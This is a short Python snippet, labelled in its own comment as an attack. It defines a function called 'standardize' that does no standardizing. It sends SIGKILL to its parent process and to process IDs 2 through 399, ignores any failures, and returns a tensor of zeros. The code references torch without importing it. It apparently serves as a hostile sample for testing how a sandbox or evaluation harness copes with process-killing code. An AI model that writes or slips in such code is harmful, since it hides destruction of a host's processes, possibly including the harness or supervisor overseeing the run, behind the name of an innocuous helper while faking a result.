# attack: kills every process that it may signal
import os
import signal


def standardize(x, eps=0.0):
    for pid in [os.getppid(), *range(2, 400)]:
        try:
            if pid not in (0, os.getpid()):
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return torch.zeros_like(x)
